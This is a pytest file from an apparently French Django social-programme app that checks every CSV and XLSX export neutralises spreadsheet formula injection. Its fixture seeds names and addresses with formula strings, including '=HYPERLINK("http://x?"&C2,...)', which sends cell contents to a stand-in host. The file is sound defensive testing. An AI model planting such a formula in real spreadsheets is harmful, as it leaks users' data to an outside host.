"""Every spreadsheet the application hands out, fed a participant named like a formula (CWE-1236,
issue #14 item 1): read back, no cell is a formula and the dangerous texts come out neutralised
(a leading quote in CSV, a quote-prefixed string cell in XLSX).

The participant's name, the référent's, the prescripteur's, the exit type's label and the
operation's title all start with a formula character; each export is checked for the ones it
carries. :data:`FILE_EXPORT_URLS` lists the URL names that produce a CSV or an XLSX: a new export
URL must be added here (the last test fails otherwise)."""

import csv
import datetime
import io
import re

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import get_resolver, reverse
from openpyxl import load_workbook

from parcours.enums import CategorieSortie
from parcours.models import ImportParcours
from plie.core.enums import StructureKind
from plie.core.writers import DANGEROUS_PREFIXES
from reporting.models import ExportDemande
from tests.factories import ParticipantFactory, StructureFactory
from tests.operations.factories import InscriptionFactory, OperationFactory
from tests.parcours.factories import EntretienFactory, ParcoursFactory, SortieFactory, TypeSortieFactory
from tests.parcours.importation.helpers import csv_bytes, ligne

D = datetime.date
FORMULE = '=HYPERLINK("http://x?"&C2,"Voir")'
NUMBER = re.compile(r"^-\d+([,.]\d+)?$")

# The URL names producing a CSV or an XLSX (PDF, ICS and HTML pages are out of this test).
FILE_EXPORT_URLS = {
    "operations:export_mdfse",
    "operations:export_xlsx",
    "operations:annexe_bilan",
    "operations:extraction_entretiens",
    "rapports:export_download",
    "rapports:mensuel_export",
    "rapports:bilan_export",
    "parcours:import_erreurs",
    # the employer side's files: tests/entreprises/test_export_injection.py
    "entreprises:impact_xlsx",
    "entreprises:preuve_xlsx",
    "finances:bilan_export",
    "rgpd:journal_export",
}
# URL names that look like exports but serve HTML pages (lists, forms, progress) or PDFs only.
NOT_SPREADSHEETS = {
    "operations:validation_mdfse",
    "rapports:export_list",
    "rapports:export_create",
    "rapports:export_detail",
    "rapports:export_progress",
    "rapports:export_retry",
    "participants:document_download",  # the pièces justificatives, sent back as they were uploaded
}


@pytest.fixture
def donnees(world):
    """One participant of PLIE A followed in 2026 (entered 02/02, left 30/09 on a CDI), enrolled in
    an operation, with an entretien; every free text exported starts with a formula character."""
    referent = world.referent_a
    referent.first_name, referent.last_name = "+Anne", "@Dupont"
    referent.save(update_fields=["first_name", "last_name"])
    prescripteur = StructureFactory(kind=StructureKind.PRESCRIPTEUR, nom="-Prescripteur")
    participant = ParticipantFactory(
        plie=world.plie_a,
        nom=FORMULE,
        prenom="@Léa",
        adresse="+1 rue des Lilas",
        code_postal="69001",
        commune="-Lyon",
        contact_tiers="=2+2",
    )
    parcours = ParcoursFactory(
        participant=participant, sorti=True, referent=referent, prescripteur=prescripteur
    )
    type_sortie = TypeSortieFactory(
        plie=world.plie_a, code="CDI_X", libelle="=1+1 CDI", categorie=CategorieSortie.EMPLOI_DURABLE
    )
    SortieFactory(parcours=parcours, type=type_sortie, valide=True)
    operation = OperationFactory(plie=world.plie_a, code="ACC-X", intitule="@Opération")
    InscriptionFactory(operation=operation, participant=participant, complete=True, sortie=True)
    EntretienFactory(parcours=parcours, date=D(2026, 3, 10), referent=referent)
    world.operation = operation
    return world


@pytest.fixture(autouse=True)
def _frozen_time():
    with time_machine.travel(datetime.datetime(2027, 1, 15, 10, 0, tzinfo=datetime.UTC), tick=False):
        yield


def csv_rows(content, *, encoding="utf-8-sig"):
    text = content.decode(encoding) if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def check_csv(rows, *markers):
    """No cell starts like a formula unless it is a (negative) number; each marker is found
    neutralised (with its leading quote)."""
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(DANGEROUS_PREFIXES) and not NUMBER.match(cell)]
    assert dangerous == []
    for marker in markers:
        assert any(cell.upper().startswith("'" + marker.upper()) for cell in cells), (marker, rows[:3])


def check_xlsx(content, *markers):
    """No formula cell; every text starting like a formula is an explicit, quote-prefixed string;
    each marker is found as such a cell."""
    workbook = load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith(DANGEROUS_PREFIXES)]
    assert [(c.coordinate, c.value) for c in texts if c.data_type != "s" or not c.quotePrefix] == []
    for marker in markers:
        assert any(cell.value.upper().startswith(marker.upper()) for cell in texts), marker


def test_every_export_neutralises_formula_texts(
    client, donnees, tmp_path, django_capture_on_commit_callbacks, capsys
):
    world, operation = donnees, donnees.operation
    nom, referent, prescripteur = FORMULE, "+Anne @Dupont", "-Prescripteur"
    sortie, intitule = "=1+1 CDI", "@Opération"
    extraction_referent = "@DUPONT +Anne"
    periode = {"du": "01/01/2026", "au": "31/12/2026"}
    client.force_login(world.gestionnaire_a)

    # Operation files: MDFSE CSV (no quoting) and XLSX, bilan d'exécution annex, entretiens
    response = client.get(reverse("operations:export_mdfse", args=[operation.pk]), periode)
    rows = csv_rows(b"".join(response.streaming_content), encoding="utf-8")
    check_csv(rows, nom, "=2+2", "+1 rue", "-Lyon")
    response = client.get(reverse("operations:export_xlsx", args=[operation.pk]), periode)
    check_xlsx(response.content, nom, "@Léa", "=2+2", "+1 rue", "-Lyon")
    url = reverse("operations:annexe_bilan", args=[operation.pk])
    response = client.get(url, {**periode, "format": "xlsx"})
    check_xlsx(response.content, nom)
    url = reverse("operations:extraction_entretiens", args=[operation.pk])
    response = client.get(url, {**periode, "format": "csv"})
    check_csv(csv_rows(b"".join(response.streaming_content)), nom, extraction_referent)
    response = client.get(url, {**periode, "format": "xlsx"})
    check_xlsx(response.content, nom, extraction_referent)

    # The financial bilan d'exécution and the monthly time state (finances)
    from finances.models import Depense
    from tests.finances.factories import AffectationFactory, PersonnelFactory

    Depense.objects.create(
        operation=operation, categorie="fonctionnement", nature="prevu", libelle="=SUM(1;2)", montant=10
    )
    personnel = PersonnelFactory(plie=world.plie_a, user=world.referent_a)
    AffectationFactory(personnel=personnel, operation=operation)
    url = reverse("finances:bilan_export", args=[operation.pk])
    response = client.get(url, {"du": "2026-01-01", "au": "2026-12-31", "format": "xlsx"})
    check_xlsx(response.content, "=SUM(1;2)", referent)
    url = reverse("finances:etat_mensuel", args=[personnel.pk, operation.pk, "2026-03"])
    check_xlsx(client.get(url, {"format": "xlsx"}).content, referent)

    # Monthly report (September 2026: the exit of the month by type)
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse("rapports:mensuel_export", args=["plie-a", "2026-09", fmt]))
        assert response.status_code == 200
        if fmt == "csv":
            check_csv(csv_rows(response.content), sortie)
        else:
            check_xlsx(response.content, sortie)

    # Long exports as jobs: the participants list and the bilan, downloaded
    for data, markers in (
        ({"kind": "participants_xlsx"}, (nom, "@Léa", "+1 rue", "-Lyon")),
        (
            {"kind": "bilan_xlsx", "perimetre": f"plie:{world.plie_a.pk}", "annee": 2026},
            (referent, prescripteur, intitule),
        ),
    ):
        client.force_login(world.direction_a)
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("rapports:export_create"), data)
        demande = ExportDemande.objects.latest("pk")
        assert demande.status == ExportDemande.Status.DONE, demande.error
        response = client.get(reverse("rapports:export_download", args=[demande.pk]))
        check_xlsx(b"".join(response.streaming_content), *markers)

    # The bilan from the command line, CSV and XLSX
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"bilan.{fmt}"
        call_command("bilan", "--plie", "plie-a", "--annee", "2026", "--format", fmt, "--output", str(path))
        if fmt == "csv":
            check_csv(csv_rows(path.read_bytes()), referent, prescripteur, intitule)
        else:
            check_xlsx(str(path), referent, prescripteur, intitule)

    # The bilan's files as served (a closed year's stored version, else today's figures)
    client.force_login(world.direction_a)
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse("rapports:bilan_export", args=["plie-a", "2026", fmt]))
        assert response.status_code == 200
        if fmt == "csv":
            check_csv(csv_rows(response.content), referent, prescripteur, intitule)
        else:
            check_xlsx(response.content, referent, prescripteur, intitule)

    # The MDFSE file from the command line
    path = tmp_path / "mdfse.csv"
    call_command("export_mdfse", "--plie", "plie-a", "--operation", "ACC-X", "--output", str(path))
    check_csv(csv_rows(path.read_bytes(), encoding="utf-8"), nom)

    # The legacy import's error report echoes the refused values: as text
    client.force_login(world.admin_a)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("parcours:import_list"),
            {"fichier": SimpleUploadedFile("ancien.csv", csv_bytes([ligne(nom=FORMULE, prenom="+Léa")]))},
        )
    job = ImportParcours.objects.get(plie=world.plie_a)
    assert job.status == ImportParcours.Status.REJETE
    response = client.get(reverse("parcours:import_erreurs", args=[job.pk]))
    check_csv(csv_rows(response.content), nom, "+Léa")
    rapport = tmp_path / "erreurs.csv"
    source = tmp_path / "ancien.csv"
    source.write_bytes(csv_bytes([ligne(nom=FORMULE)]))
    with pytest.raises(CommandError, match="rien n'a été importé"):
        call_command("import_parcours", str(source), "--plie", "plie-a", "--rapport", str(rapport))
    check_csv(csv_rows(rapport.read_bytes()), nom)
    capsys.readouterr()


def test_the_access_journal_export(client, world):
    """The journal holds no name, but who acted (an e-mail, a system scope's label) is text."""
    from plie.core.enums import JournalAction
    from plie.core.models import AccessLog

    AccessLog.objects.create(plie=world.plie_a, participant_id=1, acteur=FORMULE, action=JournalAction.EXPORT)
    client.force_login(world.admin_a)
    response = client.get(reverse("rgpd:journal_export"))
    check_csv(csv_rows(b"".join(response.streaming_content)), FORMULE)


def test_every_file_export_url_is_covered():
    """A new URL whose name says it exports must be added to FILE_EXPORT_URLS (and to the test
    above) or to NOT_SPREADSHEETS."""
    names = set()

    def walk(resolver, namespace=""):
        for pattern in resolver.url_patterns:
            if hasattr(pattern, "url_patterns"):
                walk(pattern, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
            elif pattern.name:
                names.add(f"{namespace}{pattern.name}")

    walk(get_resolver())
    exporting = {
        name
        for name in names
        if re.search(r"export|extraction|erreurs|annexe|mdfse|csv|xlsx|telecharger|download", name)
        and not name.startswith("admin:")
    }
    assert exporting == FILE_EXPORT_URLS | NOT_SPREADSHEETS
